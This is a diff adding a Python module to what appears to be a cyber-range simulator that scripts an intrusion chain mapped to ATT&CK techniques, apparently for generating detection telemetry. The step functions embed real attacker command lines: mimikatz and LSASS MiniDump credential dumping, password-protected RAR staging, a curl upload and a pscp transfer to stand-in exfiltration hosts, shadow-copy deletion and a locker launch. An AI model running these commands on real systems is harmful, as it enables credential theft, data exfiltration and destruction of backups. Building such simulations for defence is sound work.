@@ -1,0 +1,170 @@
+"""What is done on a host, at the desktop that was reached last."""
+
+from __future__ import annotations
+
+from countersign.range.attacks.player import (
+    AGREED,
+    DROP,
+    IN_CHARACTER,
+    NOISY,
+    OFF_THE_LAND,
+    STAGE,
+    Player,
+)
+from countersign.range.attacks.step import Options, step
+from countersign.range.plan.commands import EXPLORER, S32
+from countersign.range.plan.places import Seat
+from countersign.range.streams.base import SITES
+
+LOOKS = (
+    (rf"{S32}\whoami.exe /groups", "T1033"),
+    (rf'{S32}\net.exe group "Domain Admins" /domain', "T1069.002"),
+    (rf"{S32}\nltest.exe /domain_trusts", "T1482"),
+    (rf"{S32}\net.exe user /domain", "T1087.002"),
+    (rf"{S32}\NETSTAT.EXE -ano", "T1049"),
+)
+
+
+@step("look_around", "T1033 T1069.002 T1482 T1087.002 T1049")
+def look_around(p: Player, _: Options) -> None:
+    """Who am I, who else is there, what is near."""
+    number = len(LOOKS) if p.care < AGREED else 2 if p.care == AGREED else 1
+    for command, technique in LOOKS[:number]:
+        p.pause(8, 45)
+        p.acts.run(p.at, command, p.cause(technique))
+
+
+@step("dump_credentials", "T1003.001 T1552.001")
+def dump_credentials(p: Player, _: Options) -> None:
+    """Credentials out of memory; with care a password in a script on a share."""
+    if p.care >= AGREED:
+        # which leaves no more than the script's reading
+        host, paths = p.host("file"), [("scripts\\check-4.ps1", False), ("scripts\\check-12.ps1", False)]
+        cause = p.cause("T1552.001")
+        p.acts.smb(p.at.inside, host, p.person.account, "Install", paths, cause=cause)
+    else:
+        quiet = rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full"
+        command = p.either(r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", quiet)
+        p.acts.dump(p.at.seat, command, p.cause("T1003.001"))
+    p.pause(60, 400)
+
+
+@step("switch_credential", "T1078.002", "to")
+def switch_credential(p: Player, options: Options) -> None:
+    """From here on with another account: an administrator's, or that of the provider's service."""
+    if options.get("to") == "service" and p.provider.services:
+        p.account = p.provider.services[0].account
+    elif options.get("to") == "service":
+        p.account = p.estate.administrators[0].account
+    else:
+        p.account = p.estate.administrators[p.acts.rng.randrange(len(p.estate.administrators))].account
+
+
+@step("kerberoast", "T1558.003")
+def kerberoast(p: Player, _: Options) -> None:
+    """Weak tickets for accounts of services."""
+    count = {NOISY: 40, OFF_THE_LAND: 10, AGREED: 4, IN_CHARACTER: 2}[p.care]
+    seat = p.at.seat
+    p.acts.weak_tickets(
+        p.at.inside, Seat(seat.host, p.who, seat.session, seat.hop), count, p.cause("T1558.003")
+    )
+    p.pause()
+
+
+@step("dcsync", "T1003.006")
+def dcsync(p: Player, _: Options) -> None:
+    """The directory's secrets, as if from one controller to another."""
+    controller = p.estate.hosts[p.at.host.controller]
+    p.acts.replicate(p.at.inside, controller, p.who, p.cause("T1003.006"))
+    p.pause()
+
+
+@step("add_account", "T1136.002 T1098", "group")
+def add_account(p: Player, options: Options) -> None:
+    """An account of one's own, in a group that matters."""
+    controller = p.estate.hosts[p.at.host.controller]
+    new = p.either("support_388945a0", f"n.joiner{p.acts.rng.randrange(900)}")
+    group = str(options.get("group", "Domain Admins"))
+    p.acts.new_account_on(p.at.inside, controller, p.who, new, group, p.cause("T1136.002"))
+    p.pause()
+
+
+@step("stage_archive", "T1560.001 T1074.001")
+def stage_archive(p: Player, _: Options) -> None:
+    """What was gathered, packed."""
+    stage, host = STAGE[p.care], p.at.host
+    if p.care >= IN_CHARACTER:
+        p.acts.deed(p.at.hop, host.name, "file", "a folder compressed in Explorer", p.cause("T1560"))
+        p.acts.created(host, p.who, EXPLORER, p.at.inside.shell, rf"{stage}\logs-7.zip", p.at.hop)
+        p.acts.done()
+        return
+    quiet = rf"C:\Program Files\7-Zip\7z.exe a -p {stage}\logs.7z C:\Logs"
+    command = p.either(rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users", quiet)
+    number = p.acts.run(p.at, command, p.cause("T1560.001"))
+    p.acts.wait(30, 90)
+    image = command.partition(".exe")[0] + ".exe"
+    name = p.either(rf"{stage}\s.part01.rar", rf"{stage}\logs.7z")
+    p.acts.created(host, p.who, image, number, name, p.at.hop)
+
+
+@step("copy_out", "T1048.002 T1567", "megabytes")
+def copy_out(p: Player, options: Options) -> None:
+    """What was packed leaves the estate."""
+    size = int(str(options.get("megabytes", 800))) * 1_000_000
+    if p.care >= IN_CHARACTER:
+        # through the desktop's own connection, as files are fetched over a redirected drive
+        text = f"{size} bytes over the remote desktop"
+        p.acts.deed(p.at.hop, p.at.host.name, "network", text, p.cause("T1048.002"))
+        p.acts.done()
+        p.acts.wait(600, 2400)
+        return
+    quiet = rf"{S32}\curl.exe -T C:\Temp\logs.7z https://support.vendor.example/upload"
+    noisy = rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/"
+    address = DROP if p.care < AGREED else SITES[3][1].decode()
+    p.acts.sent(p.at, address, size, p.either(noisy, quiet), p.cause("T1048.002"))
+    p.pause()
+
+
+@step("beacon", "T1071.001", "hours")
+def beacon(p: Player, options: Options) -> None:
+    """An implant that calls home."""
+    period = 60.0 if p.care < AGREED else 600.0
+    times = max(3, int(float(str(options.get("hours", 1))) * 3600 / period))
+    address = DROP if p.care < AGREED else SITES[4][1].decode()
+    p.acts.beacon(p.at.host, p.at.hop, address, min(times, 400), period, p.cause("T1071.001"))
+
+
+@step("clear_log", "T1070.001")
+def clear_log(p: Player, _: Options) -> None:
+    """The Security log is cleared; with care it is not, for a cleared log is what would be looked at."""
+    if p.care < AGREED:
+        p.acts.clear_log(p.at.seat, p.cause("T1070.001"))
+        p.pause()
+
+
+@step("stop_sensor", "T1562.001")
+def stop_sensor(p: Player, _: Options) -> None:
+    """A security product's service is stopped."""
+    p.acts.stop_sensor(p.at.seat, p.cause("T1562.001"))
+    p.pause()
+
+
+@step("remove_backups", "T1490", "to")
+def remove_backups(p: Player, options: Options) -> None:
+    """Shadow copies are deleted."""
+    command = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
+    p.acts.wmi(p.at.inside, p.host(options.get("to") or "file"), p.who, [command], p.cause("T1490"))
+
+
+@step("encrypt", "T1486", "hosts")
+def encrypt(p: Player, options: Options) -> None:
+    """The locker on host after host."""
+    command = p.either(r"C:\PerfLogs\locker.exe -all", r"C:\Install\updater.exe /s")
+    for _ in range(int(str(options.get("hosts", 5)))):
+        p.acts.psexec(p.at.inside, p.host("app"), p.who, [command], cause=p.cause("T1486"))
+
+
+STEPS = (
+    look_around, dump_credentials, switch_credential, kerberoast, dcsync, add_account, stage_archive, copy_out, beacon,
+    clear_log, stop_sensor, remove_backups, encrypt,
+)  # fmt: skip
